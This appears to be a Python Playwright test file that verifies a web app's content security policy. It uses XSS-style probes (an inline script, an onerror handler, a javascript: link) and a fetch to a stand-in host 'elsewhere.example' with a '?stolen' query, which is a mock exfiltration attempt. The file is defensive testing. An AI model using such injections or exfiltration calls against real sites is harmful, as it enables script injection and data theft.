"""The content security policy in a real browser: intruders do not work under it. That every page
does is seen by all other journeys: `new_page` fails on whatever the policy refuses."""

from __future__ import annotations

from playwright.sync_api import Browser, ConsoleMessage, Page

from tests.journeys.conftest import NewPerson
from tests.journeys.studio import Studio
from tests.journeys.world import World

HARMLESS = "Failed to load resource"
"""What a browser says about a page that answers 404: no trouble with any policy."""

INTRUDE = """async () => {
    window.intruded = [];
    const script = document.createElement("script");
    script.textContent = "window.intruded.push('inline script')";
    document.body.append(script);
    const box = document.createElement("div");
    box.innerHTML = "<img src='data:,' onerror=\\"window.intruded.push('handler')\\">";
    document.body.append(box);
    const link = document.createElement("a");
    link.href = "javascript:window.intruded.push('address')";
    document.body.append(link);
    link.click();
    await new Promise((done) => setTimeout(done, 300));
    return window.intruded;
}"""
ELSEWHERE = """async () => {
    try { await fetch("https://elsewhere.example/?stolen"); return "sent"; }
    catch (error) { return "refused"; }
}"""


def listened_to(page: Page) -> list[str]:
    """Everything that the browser complains about from here on."""
    complaints: list[str] = []

    def note(message: ConsoleMessage) -> None:
        if message.type in {"error", "warning"} and HARMLESS not in message.text:
            complaints.append(f"{page.url}: {message.text}")

    page.on("console", note)
    return complaints


def test_paying_and_reading_mail_work_under_the_simulators_policy(
    world: World, person: NewPerson, studio: Studio
) -> None:
    rosa = person(world.mentee("Rosa Rind"))
    complaints = listened_to(rosa.page)
    rosa.is_signed_in().opens_checkout(studio.on_sale).goes_to_pay()
    rosa.pays().is_back()
    rosa.opens_mail(f"Your pack with {studio.on_sale.name} is ready")
    rosa.page.frame_locator("iframe").locator("body").wait_for()
    assert complaints == []
    rosa.page.context.close()  # the next person is not listened to


def test_an_injected_script_does_not_run_and_nothing_is_sent_elsewhere(
    world: World, browser: Browser
) -> None:
    guarded = browser.new_context(base_url=world.app.address)
    page = guarded.new_page()
    page.goto("/mentors")
    assert page.evaluate(INTRUDE) == []
    assert page.evaluate(ELSEWHERE) == "refused"
    guarded.close()
    # The same tricks work where no policy is kept: it is the policy that stops them.
    careless = browser.new_context(base_url=world.app.address, bypass_csp=True)
    page = careless.new_page()
    page.goto("/mentors")
    assert set(page.evaluate(INTRUDE)) == {"inline script", "handler", "address"}
    careless.close()
